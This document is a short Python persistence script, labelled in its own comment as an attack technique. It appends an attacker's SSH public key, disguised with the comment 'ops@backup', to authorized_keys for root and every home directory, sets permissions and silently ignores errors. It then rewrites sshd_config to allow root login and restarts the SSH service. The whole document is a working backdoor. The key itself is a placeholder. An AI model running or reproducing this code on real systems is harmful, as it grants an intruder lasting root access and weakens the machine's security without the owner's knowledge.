# technique: append an attacker public key to authorized_keys for root and every home directory, fixing permissions
import glob,os
K="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERKEYFORSHRIKECORPUSONLY000000000 ops@backup\n"
for h in ["/root"]+glob.glob("/home/*"):
    d=os.path.join(h,".ssh");f=os.path.join(d,"authorized_keys")
    try:
        os.makedirs(d,mode=0o700,exist_ok=True)
        if K.split()[1] not in (open(f).read() if os.path.exists(f) else ""):open(f,"a").write(K)
        os.chmod(f,0o600)
    except OSError:pass
os.system("sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config 2>/dev/null; (service ssh restart || /usr/sbin/sshd) >/dev/null 2>&1")
